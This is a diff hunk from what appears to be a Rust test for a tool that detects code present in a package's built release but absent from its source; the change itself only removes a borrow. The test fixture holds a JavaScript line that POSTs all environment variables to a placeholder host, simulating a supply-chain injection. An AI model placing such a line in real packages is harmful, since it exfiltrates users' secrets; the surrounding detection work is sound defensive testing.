@@ -138,7 +138,7 @@ fn what_a_release_does_that_its_source_does_not_is_told() {
     let built = "const { readFile } = require('fs/promises');\nexports.load = (url) => fetch('https://api.example.com/' + url);\n";
     let faithful = Pkg::new("tool", "1.0.0").field("main", "dist/index.js".into()).file("dist/index.js", built);
     let stealing = "fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n";
-    let added = faithful.clone().file("dist/index.js", &format!("{built}{stealing}"));
+    let added = faithful.clone().file("dist/index.js", format!("{built}{stealing}"));
     fs::write(folder.path().join("faithful.tgz"), faithful.tarball()).unwrap();
     fs::write(folder.path().join("added.tgz"), added.tarball()).unwrap();
     let gained = |archive: &str, status: i32| {
